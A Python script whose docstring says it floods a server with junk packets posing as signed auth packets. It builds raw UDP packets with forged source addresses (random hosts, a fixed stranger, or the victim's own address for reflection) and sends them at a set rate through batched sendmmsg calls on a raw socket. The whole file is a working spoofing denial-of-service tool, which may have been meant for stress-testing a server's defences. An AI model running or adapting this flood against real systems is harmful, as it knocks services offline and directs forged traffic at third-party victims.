"""Floods a server with what looks like signed auth packets, and is junk.

  flood.py KIND TO_IP:PORT VICTIM_IP:PORT RATE SECONDS

KIND says where the packets pretend to come from: "many" random addresses, one "stranger", the "address" of the victim
with random ports, or its very "place". "other" is "many" of another length, which no auth packet has. Prints how many it
sent in a second.
"""
import ctypes
import os
import random
import socket
import struct
import sys
import time

MOST_VARIANTS = 16384
MOST_SECONDS_LATE = 0.01


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(Iovec)), ("iov_length", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int),
    ]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("header", Msghdr), ("length", ctypes.c_uint)]


class Messages:
    """Packets that are sent many at a time: one call for each would be most of what a flood costs its sender."""

    def __init__(self, raw, packets, ip):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.raw = raw
        address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 0) + socket.inet_aton(ip) + bytes(8)
        self.kept = [ctypes.create_string_buffer(address, len(address))]
        self.all = (Mmsghdr * len(packets))()
        for message, packet in zip(self.all, packets):
            buffer = ctypes.create_string_buffer(packet, len(packet))
            iov = Iovec(ctypes.addressof(buffer), len(packet))
            self.kept += [buffer, iov]
            header = message.header
            header.name, header.name_length = ctypes.addressof(self.kept[0]), len(address)
            header.iov, header.iov_length = ctypes.pointer(iov), 1

    def send(self, start, count):
        """Sends from one on, round and round. Returns how many."""
        start %= len(self.all)
        count = min(count, len(self.all) - start)
        sent = self.libc.sendmmsg(self.raw.fileno(), ctypes.byref(self.all[start]), count, 0)
        if sent < 0:
            raise OSError(ctypes.get_errno(), "sendmmsg")
        return sent


def endpoint(text):
    ip, port = text.split(":")
    return ip, int(port)


def source(kind, victim):
    if kind in ("many", "other"):
        return f"11.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}", random.randrange(1024, 65536)
    if kind == "stranger":
        return "203.0.113.99", 40000
    return victim[0], victim[1] if kind == "place" else random.randrange(1024, 65536)


def packet(origin, destination, more=b""):
    payload = b"\xff" + os.urandom(63) + int(time.time()).to_bytes(5, "big") + os.urandom(4) + more
    datagram = struct.pack("!HHHH", origin[1], destination[1], 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(origin[0]) + socket.inet_aton(destination[0])
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + datagram


def main():
    kind, to, victim, rate, seconds = sys.argv[1:]
    destination, rate, seconds = endpoint(to), float(rate), float(seconds)
    variants = min(MOST_VARIANTS, int(rate))
    more = b"\0" if kind == "other" else b""
    packets = [packet(source(kind, endpoint(victim)), destination, more) for _ in range(variants)]
    batch = max(1, int(rate / 500))
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        messages = Messages(raw, packets, destination[0])
        start = due = time.monotonic()
        while (now := time.monotonic()) < start + seconds:
            if now < due:
                time.sleep(due - now)
                continue
            # What it was too late for it does not send in a burst, which devices would drop, and others' packets with it.
            due = max(due, now - MOST_SECONDS_LATE) + batch / rate
            sent += messages.send(sent, batch)
    print(f"{sent / seconds:.0f}")


main()
